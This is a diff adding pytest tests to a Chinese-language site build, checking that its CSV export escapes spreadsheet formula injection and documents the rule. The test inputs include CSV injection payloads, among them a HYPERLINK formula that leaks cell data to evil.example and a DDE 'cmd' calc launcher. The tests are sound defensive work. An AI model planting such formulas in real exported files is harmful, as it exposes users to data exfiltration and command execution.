@@ -7,6 +7,8 @@ inputs with mutations drawn at random.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import shutil
@@ -370,3 +372,47 @@ def test_the_first_letter_of_a_sentence_is_still_capitalised():
     """The URL is protected, not the style's prose: an archive location that is prose is capitalised as before."""
     text = cite.render({**CHICAGO_ITEM, "archive_location": "box 3, folder 2"}, "chicago")
     assert "Box 3, folder 2" in text
+
+
+# --- 5. CSV injection --------------------------------------------------------------------------------------------
+
+def record(text: str, publisher: str = "外交部", urls: tuple[str, ...] = ()) -> dict:
+    return {"statement": "2015-04-20", "anchor": "c1", "label": {"zh-Hans": "第一条", "zh-Hant": "第一條"},
+            "text": {"zh-Hans": text, "zh-Hant": text}, "url": {"zh-Hans": "u1", "zh-Hant": "u2"}, "see_also": [],
+            "source": {"source_urls": list(urls), "publisher": publisher, "posted": None}, "source_script": "zh-Hans"}
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(cell):
+    from build_scripts.downloads import clauses_csv
+
+    data = clauses_csv([record(cell, publisher=cell)], ["zh-Hans", "zh-Hant"]).decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(data)))
+    assert row["text_zh-Hans"] == row["text_zh-Hant"] == row["publisher"] == "'" + cell
+    quoted = '"' + ("'" + cell).replace('"', '""') + '"'
+    assert data.count(quoted) == 3
+
+
+@pytest.mark.parametrize("cell", ["一、双方同意加强合作。", "a,b", 'say "x"', "line\nbreak", "", " =1", "\uff0d1", "\uff1d1", "1-2",
+                                  "https://www.fmprc.gov.cn/x?a=1&b=2"])
+def test_every_other_csv_cell_is_written_as_before(cell):
+    from build_scripts.downloads import clauses_csv
+
+    langs = ["zh-Hans", "zh-Hant"]
+    out = io.StringIO()
+    fields = ["statement", "anchor", *(f"{k}_{lang}" for k in ("label", "text", "url") for lang in langs), "see_also",
+              "source_urls", "publisher", "posted", "source_script"]
+    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
+    writer.writeheader()
+    writer.writerow({"statement": "2015-04-20", "anchor": "c1", "label_zh-Hans": "第一条", "label_zh-Hant": "第一條",
+                     "text_zh-Hans": cell, "text_zh-Hant": cell, "url_zh-Hans": "u1", "url_zh-Hant": "u2", "see_also": "",
+                     "source_urls": "", "publisher": cell, "posted": "", "source_script": "zh-Hans"})
+    assert clauses_csv([record(cell, publisher=cell)], langs) == ("\ufeff" + out.getvalue()).encode("utf-8")
+
+
+@pytest.mark.parametrize("lang", ["zh-Hans", "zh-Hant"])
+def test_the_data_page_documents_the_csv_rule(built, lang):
+    page = (built / lang / "data" / "index.html").read_text(encoding="utf-8")
+    assert "CSV" in page and "<code>=</code>、<code>+</code>、<code>-</code>、<code>@</code>" in page
+    assert "<code>'</code>" in page or "<code>&#39;</code>" in page
